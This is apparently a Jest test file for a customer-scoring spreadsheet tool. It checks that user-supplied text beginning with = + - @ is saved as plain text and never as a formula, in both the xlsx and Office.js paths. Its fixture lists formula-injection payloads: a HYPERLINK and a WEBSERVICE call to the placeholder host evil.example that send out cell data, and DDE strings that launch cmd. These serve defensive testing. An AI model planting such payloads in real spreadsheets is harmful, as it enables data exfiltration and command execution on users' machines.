/**
 * SPEC §8: text that came from user data and starts with = + - @ is written as text, never as a
 * formula, by both shells: customer names and ids, 沟通内容摘要, industries, demand types and
 * product categories as they reach the Tiers sheet's name column, the Summary's overdue list,
 * tables and conclusions, and the masked copy (src/core/actions/mask.ts, when it exists).
 *
 * xlsx shell: the saved file is unzipped (jszip) and its sheet XML read: no <f> element holds user
 * text, and every cell whose text starts with = + - @ is a string cell (t="s" or t="inlineStr").
 * Office.js shell: after the action, no cell of the strict fake holds a formula.
 */
import { existsSync } from "node:fs";
import { readFile } from "node:fs/promises";
import path from "node:path";
import JSZip from "jszip";
import type { Lang } from "../../src/core/plan/cells";
import type { WorkbookSnapshot } from "../../src/core/plan/snapshot";
import type { WorkbookPlan } from "../../src/core/plan/types";
import { runScoreAndTier } from "../../src/excel/actions";
import { applyPlan as applyExcelPlan } from "../../src/excel/apply";
import { readSnapshot } from "../../src/excel/snapshot";
import { applyPlan as applyXlsxPlan } from "../../src/xlsx/apply";
import { readWorkbook } from "../../src/xlsx/file";
import { saveWorkbook } from "../../src/xlsx/save";
import { workbookSnapshot } from "../../src/xlsx/snapshot";
import { installFake, NOW } from "../excel/fixtures";
import type { FakeExcel } from "../fake-excel/index";
import { runCliCapture } from "../helpers/workbooks";
import { CUSTOMER_HEADERS, BEHAVIOUR_HEADERS } from "../corpus/cases";
import { toFake, type NValue, type NWorkbook } from "../corpus/model";
import { REF_ISO, saveCase } from "../corpus/shells";

const MASK_MODULE = path.resolve(__dirname, "..", "..", "src", "core", "actions", "mask.ts");
const HAS_MASK = existsSync(MASK_MODULE);

interface MaskModule {
  maskPlan: (snapshot: WorkbookSnapshot, lang: Lang) => WorkbookPlan;
}

async function maskModule(): Promise<MaskModule> {
  return (await import(MASK_MODULE)) as unknown as MaskModule;
}

/** What a hostile or careless list holds: formulas, DDE, sign-led text, at-functions. */
const NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "=cmd|' /C calc'!A0", "+86 138 0013 8000 有限公司", "-张三-", "@SUM(A1:A9)", "=1+1"];
const IDS = ["=2024001", "+2024002", "-2024003", "@2024004", "=A1", "2024006"];
const SUMMARIES = ["=WEBSERVICE(\"http://evil.example\")", "+转账 1000", "-", "@me 回电", "=IMPORTXML(A1,\"//a\")", "-1+2"];
const INDUSTRY = "=cmd|' /C notepad'!A0";
const DEMAND = "+1+1 需求";
const CATEGORY = "@高端产品线";
/** Markers of the payloads: none may appear inside an <f> element. */
const MARKERS = ["HYPERLINK", "cmd|", "WEBSERVICE", "IMPORTXML", "SUM(A1:A9)", "1+1", "-1+2", "A1", "+86", "转账", "高端", "张三", "2024001", "2024002"];

function hostileWorkbook(): NWorkbook {
  const headers = [...CUSTOMER_HEADERS, "需求类型"];
  const rows: NValue[][] = NAMES.map((name, i) => [
    IDS[i],
    name,
    INDUSTRY,
    i % 2 ? "=联系人" : "李四",
    "经理",
    "13800138000",
    // Long ago, priority 高: every customer is overdue and listed on the Summary.
    { date: "2026-01-05" },
    SUMMARIES[i],
    "重点",
    "高",
    4,
    5 - (i % 3),
    DEMAND,
  ]);
  const behaviour: NValue[][] = IDS.map((id, i) => [id, "2026Q2", 10 - i, 12, 100 - i * 10, { date: "2026-05-01" }, 10, 2, i % 2, CATEGORY]);
  return {
    sheets: [
      { name: "客户信息", rows: [headers, ...rows], tables: [{ name: "Customers", ref: `A1:M${rows.length + 1}` }] },
      { name: "客户行为", rows: [[...BEHAVIOUR_HEADERS, "偏好产品类别"], ...behaviour], tables: [{ name: "Behaviour", ref: `A1:J${behaviour.length + 1}` }] },
    ],
  };
}

const SIGN_LED = /^[=+\-@]/;

// ---- reading the saved package ----

interface XmlCell {
  sheet: string;
  ref: string;
  type: string;
  formula: string | null;
  text: string | null;
}

function decode(s: string): string {
  return s
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&#(\d+);/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&#x([0-9a-f]+);/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&amp;/g, "&");
}

function texts(xml: string): string {
  return [...xml.matchAll(/<t\b[^>]*>([\s\S]*?)<\/t>/g)].map((m) => decode(m[1])).join("");
}

/** Every cell of every sheet, with its type, its formula and its text (shared strings resolved). */
async function packageCells(file: string): Promise<XmlCell[]> {
  const zip = await JSZip.loadAsync(await readFile(file));
  const read = async (p: string) => (await zip.file(p)?.async("string")) ?? "";
  const shared = [...(await read("xl/sharedStrings.xml")).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => texts(m[1]));
  const rels = new Map([...(await read("xl/_rels/workbook.xml.rels")).matchAll(/<Relationship\b[^>]*?Id="([^"]+)"[^>]*?Target="([^"]+)"/g)].map((m) => [m[1], m[2]]));
  const out: XmlCell[] = [];
  for (const m of (await read("xl/workbook.xml")).matchAll(/<sheet\b[^>]*?name="([^"]+)"[^>]*?r:id="([^"]+)"/g)) {
    const sheet = decode(m[1]);
    const target = (rels.get(m[2]) ?? "").replace(/^\/?xl\//, "");
    const xml = await read(`xl/${target}`);
    for (const c of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const attrs = c[1];
      const inner = c[2] ?? "";
      const ref = /\br="([^"]+)"/.exec(attrs)?.[1] ?? "?";
      const type = /\bt="([^"]+)"/.exec(attrs)?.[1] ?? "n";
      const f = /<f\b[^>]*>([\s\S]*?)<\/f>/.exec(inner);
      const v = /<v>([\s\S]*?)<\/v>/.exec(inner);
      let text: string | null = null;
      if (type === "s" && v) text = shared[Number(v[1])] ?? null;
      else if (type === "inlineStr") text = texts(inner);
      else if (type === "str" && v) text = decode(v[1]);
      out.push({ sheet, ref, type, formula: f ? decode(f[1]) : /<f\b/.test(inner) ? "" : null, text });
    }
  }
  return out;
}

function expectPackageSafe(cells: XmlCell[]): void {
  // No formula carries user text.
  const bad = cells.filter((c) => c.formula !== null && MARKERS.some((m) => (c.formula as string).includes(m)));
  expect(bad).toEqual([]);
  // Every sign-led text is a string cell, not a formula's cached result.
  const signLed = cells.filter((c) => c.text !== null && SIGN_LED.test(c.text));
  expect(signLed.length).toBeGreaterThan(0);
  expect(signLed.filter((c) => !(c.type === "s" || c.type === "inlineStr") || c.formula !== null)).toEqual([]);
}

function column(cells: XmlCell[], sheet: string, letter: string): string[] {
  return cells.filter((c) => c.sheet === sheet && new RegExp(`^${letter}\\d+$`).test(c.ref) && c.text !== null).map((c) => c.text as string);
}

describe("xlsx shell: user text starting with = + - @ is stored as text", () => {
  let scored: XmlCell[];
  let masked: XmlCell[] | null = null;

  beforeAll(async () => {
    const input = await saveCase(hostileWorkbook());
    const out = path.join(path.dirname(input), "scored.xlsx");
    const run = await runCliCapture(["score", input, "-o", out, "--ref-date", REF_ISO, "--lang", "zh-CN"]);
    if (run.code !== 0) throw new Error(run.stderr);
    scored = await packageCells(out);
    if (HAS_MASK) {
      const { maskPlan } = await maskModule();
      const wb = await readWorkbook(out);
      const plan = maskPlan(workbookSnapshot(wb), "zh-CN");
      applyXlsxPlan(wb, plan);
      const file = path.join(path.dirname(input), "masked.xlsx");
      await saveWorkbook(wb, file, [plan]);
      masked = await packageCells(file);
    }
  });

  test("no <f> element holds user text, and every sign-led text is a t=\"s\"/inlineStr string", () => {
    expectPackageSafe(scored);
  });

  test("the inputs are still text cells (names, ids, summaries)", () => {
    const all = scored.filter((c) => c.sheet === "客户信息").map((c) => c.text);
    for (const t of [...NAMES, ...IDS.slice(0, 5), ...SUMMARIES]) expect(all).toContain(t);
  });

  test("the Tiers sheet's id and name columns hold the hostile ids and names verbatim, as text", () => {
    expect(column(scored, "客户分层", "B")).toEqual(expect.arrayContaining(NAMES));
    expect(column(scored, "客户分层", "A")).toEqual(expect.arrayContaining(IDS));
  });

  test("the Summary's overdue list names every customer verbatim, as text", () => {
    const summary = scored.filter((c) => c.sheet === "分析汇总" && c.text !== null).map((c) => c.text as string);
    for (const n of NAMES) expect(summary).toContain(n);
    for (const id of IDS) expect(summary).toContain(id);
  });

  test("the Summary's tables and conclusions carry the hostile industry, demand type and category as text", () => {
    const summary = scored.filter((c) => c.sheet === "分析汇总" && c.text !== null);
    expect(summary.some((c) => c.text === INDUSTRY)).toBe(true);
    expect(summary.some((c) => (c.text as string).includes(INDUSTRY) && c.text !== INDUSTRY)).toBe(true); // a conclusion
    expect(summary.filter((c) => (c.text as string).includes(INDUSTRY)).every((c) => c.type === "s" || c.type === "inlineStr")).toBe(true);
  });

  (HAS_MASK ? test : test.skip)("the masked copy (mask.ts) keeps sign-led text as text and adds no formula", () => {
    const m = (masked ?? []).filter((c) => c.sheet !== "客户信息" && c.sheet !== "客户分层" && c.sheet !== "分析汇总" && c.sheet !== "客户行为");
    expect(m.filter((c) => c.text !== null && SIGN_LED.test(c.text)).length).toBeGreaterThan(0);
    expectPackageSafe(masked ?? []);
    expect(m.filter((c) => c.formula !== null)).toEqual([]);
  });
});

function formulas(fake: FakeExcel): { sheet: string; key: string; formula: string }[] {
  return fake.workbook.liveSheets().flatMap((s) => [...s.cells].filter(([, c]) => c.formula !== undefined).map(([key, c]) => ({ sheet: s.name, key, formula: c.formula as string })));
}

function sheetTexts(fake: FakeExcel, sheet: string): string[] {
  const s = fake.workbook.findSheet(sheet);
  return s ? [...s.cells.values()].map((c) => c.value).filter((v): v is string => typeof v === "string") : [];
}

describe("Office.js shell (strict fake): user text starting with = + - @ never becomes a formula", () => {
  let fake: FakeExcel;

  beforeAll(async () => {
    fake = installFake();
    toFake(hostileWorkbook(), fake);
    const r = await runScoreAndTier("zh-CN", { now: NOW });
    if (!r.ok) throw new Error(r.message);
  });

  test("after Score and tier no cell anywhere holds a formula", () => {
    expect(formulas(fake)).toEqual([]);
  });

  test("Tiers, Summary overdue list and conclusions hold the hostile text verbatim", () => {
    const tiers = sheetTexts(fake, "客户分层");
    for (const t of [...NAMES, ...IDS]) expect(tiers).toContain(t);
    const summary = sheetTexts(fake, "分析汇总");
    for (const t of [...NAMES, ...IDS, INDUSTRY]) expect(summary).toContain(t);
    expect(summary.some((t) => t.includes(INDUSTRY) && t !== INDUSTRY)).toBe(true);
  });

  test("a second run (re-score) still writes no formula", async () => {
    const r = await runScoreAndTier("zh-CN", { now: NOW });
    expect(r.ok).toBe(true);
    expect(formulas(fake)).toEqual([]);
  });

  (HAS_MASK ? test : test.skip)("the masked copy (mask.ts), applied through src/excel/apply, writes no formula", async () => {
    const { maskPlan } = await maskModule();
    const before = fake.workbook.sheetNames();
    await fake.Excel.run(async (ctx) => {
      const context = ctx as unknown as Excel.RequestContext;
      const shell = await readSnapshot(context);
      await applyExcelPlan(context, maskPlan(shell.snapshot, "zh-CN"), shell);
    });
    const added = fake.workbook.sheetNames().filter((n) => !before.includes(n));
    expect(added).toHaveLength(1);
    const masked = sheetTexts(fake, added[0]);
    // The copy still holds sign-led text (summaries, demand types, industries): the check bites.
    expect(masked.filter((t) => SIGN_LED.test(t)).length).toBeGreaterThan(0);
    expect(formulas(fake)).toEqual([]);
  });
});
